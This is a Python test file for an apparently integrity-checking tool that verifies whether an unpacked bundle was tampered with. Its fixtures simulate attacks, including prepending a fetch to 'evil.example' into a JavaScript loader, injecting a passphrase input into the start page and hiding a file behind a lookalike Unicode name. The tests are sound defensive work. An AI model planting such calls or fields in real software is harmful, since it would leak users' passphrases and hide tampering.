"""A copy that somebody changed on purpose, with a MANIFEST that fits: its number is another one."""

import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from outlast.bundle import bundle
from outlast.verify import MANIFEST, START, Manifest, fingerprint, read_manifest, verify, write_manifest

from tests.bundle.checking import alone, ask
from tests.bundle.conftest import PLAN, seal
from tests.host.running import contents

PAPERS = {"binder-1-first-week.pdf": b"%PDF binder", "wallet-card.pdf": b"%PDF card"}
LOADER = "site/assets/outlast/lock.js"


@pytest.fixture(params=[False, True], ids=["plain", "sealed"])
def stick(request: pytest.FixtureRequest, site: Path, tmp_path: Path) -> Path:
    """A stick with everything that one can hold, unpacked."""
    return unpacked(site, tmp_path, sealed=request.param)


def unpacked(site: Path, tmp_path: Path, *, sealed: bool) -> Path:
    file = bundle(site, tmp_path / "dist", plan=PLAN, papers=PAPERS, seal=seal() if sealed else None)
    with zipfile.ZipFile(file) as archive:
        archive.extractall(tmp_path / "stick")
    return tmp_path / "stick"


def forge(stick: Path, change: Callable[[Manifest], Manifest] = lambda manifest: manifest) -> None:
    """Write a MANIFEST that says what lies there, as whoever changed it would."""
    told = read_manifest((stick / MANIFEST).read_bytes())
    files = {path: fingerprint((stick / path).read_bytes()) for path in contents(stick) if path != MANIFEST}
    (stick / MANIFEST).write_bytes(write_manifest(change(replace(told, files=files))))


def refused(stick: Path, number: str, capsys: pytest.CaptureFixture[str]) -> None:
    """All fits together, and the number on the paper gives it away."""
    report = verify(stick)
    assert report.problems == ()
    assert report.number != number
    said = ask(stick, capsys, number)
    assert said.code == 1
    assert f"This copy has the number {report.number}, and not {number}." in said.text
    assert "Do not trust it" in said.text


def test_every_file_of_a_stick_is_bound_to_its_number(
    stick: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    number = verify(stick).number
    changed = [path for path in contents(stick) if path != MANIFEST]
    assert len(changed) > 10
    for path in changed:
        before = (stick / path).read_bytes()
        (stick / path).write_bytes(before + b" ")
        forge(stick)
        refused(stick, number, capsys)
        (stick / path).write_bytes(before)
    forge(stick)
    assert verify(stick, number).problems == ()


def test_the_attacks_that_passed_once_are_refused(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A loader that passes on the passphrase, a first page that asks for it, a scheme of the binder."""
    stick = unpacked(site, tmp_path, sealed=True)
    number = verify(stick).number
    loader = (stick / LOADER).read_text(encoding="utf-8")
    (stick / LOADER).write_text(f'fetch("https://evil.example/");{loader}', encoding="utf-8")
    forge(stick)
    refused(stick, number, capsys)
    (stick / LOADER).write_text(loader, encoding="utf-8", newline="\n")
    start = (stick / START).read_text(encoding="utf-8")
    (stick / START).write_text(start.replace("<main>", "<main><input name=passphrase>"), encoding="utf-8")
    forge(stick)
    refused(stick, number, capsys)


@pytest.mark.parametrize("change", ["added", "removed", "renamed"])
def test_files_that_come_and_go_change_the_number(
    change: str, stick: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    number = verify(stick).number
    if change == "added":
        (stick / "site/added.js").write_bytes(b"alert(1)")
    elif change == "removed":
        (stick / "verify.py").unlink()
    else:
        (stick / "verify.py").rename(stick / "site/verify.py")
    forge(stick)
    refused(stick, number, capsys)


@pytest.mark.parametrize(
    "told",
    [
        {"date": "2029-01-01"},
        {"edition": "public"},
        {"name": "Another runbook"},
        {"version": "9"},
        {"sealed": None},
    ],
)
def test_what_is_said_of_a_copy_is_bound_too(
    told: dict[str, str | None], stick: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Else an old copy could be passed off as new."""
    report = verify(stick)
    values = {key: value or not report.manifest.sealed for key, value in told.items()}
    forge(stick, lambda manifest: replace(manifest, **values))  # type: ignore[arg-type]
    refused(stick, report.number, capsys)


def test_a_number_that_is_only_written_down_is_not_told(
    stick: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Neither the MANIFEST nor the first page can say a number: it comes from the files."""
    number = verify(stick).number
    (stick / LOADER).parent.mkdir(parents=True, exist_ok=True)
    (stick / LOADER).write_bytes(b"evil()")
    forge(stick)
    body = (
        (stick / MANIFEST)
        .read_bytes()
        .partition(b"end: ")[0]
        .replace(b"\n", f"\nroot: {number}\n".encode(), 1)
    )
    (stick / MANIFEST).write_bytes(body + f"end: {fingerprint(body)[0]}\n".encode())
    refused(stick, number, capsys)
    assert number not in ask(stick, capsys).text
    assert not [
        path
        for path in contents(stick)
        if path != MANIFEST and number.encode() in (stick / path).read_bytes()
    ]


def test_the_number_of_the_paper_is_taken_as_people_type_it(
    stick: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    number = verify(stick).number
    assert f"Number of this copy: {number}\n" in ask(stick, capsys).text
    for typed in (number, number.upper(), number.replace("-", " "), number.replace("-", "")):
        said = ask(stick, capsys, typed)
        assert said.code == 0
        assert "That is the number you gave." in said.text
    for typed in (number[:8], number + "0", "the number", "-"):
        said = ask(stick, capsys, typed)
        assert said.code == 2
        assert "is not the number of a copy" in said.text


def test_each_verdict_says_what_it_rests_on(stick: Path, capsys: pytest.CaptureFixture[str]) -> None:
    said = ask(stick, capsys)
    assert said.code == 0
    assert "Compare it with the number on your paper." in said.text
    assert "Trust this check only if its program did not come from the copy itself." in said.text
    assert alone(str(stick), verify(stick).number, program=stick / "verify.py").code == 0


def test_a_plain_stick_has_the_same_number_each_time_and_a_sealed_one_its_own(
    site: Path, tmp_path: Path
) -> None:
    def number(folder: str, papers: dict[str, bytes], *, sealed: bool = False) -> str:
        made = bundle(site, tmp_path / folder, plan=PLAN, papers=papers, seal=seal() if sealed else None)
        return verify(made).number

    plain = number("one", PAPERS)
    assert number("two", PAPERS) == plain
    assert number("three", {**PAPERS, "binder-1-first-week.pdf": b"%PDF another"}) != plain
    assert number("four", PAPERS, sealed=True) != plain


def test_a_second_spelling_of_a_name_does_not_hide_a_file(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """On a Mac both are one name; elsewhere one of them would be a file that nobody looked at."""
    file = bundle(site, tmp_path / "dist", plan={"caf\u00e9.yml": b"good"})
    assert ask(file, capsys).code == 0
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("plan/cafe\u0301.yml", b"evil")
    said = ask(file, capsys)
    assert said.code == 1
    assert "is there twice, in two spellings that look the same" in said.text
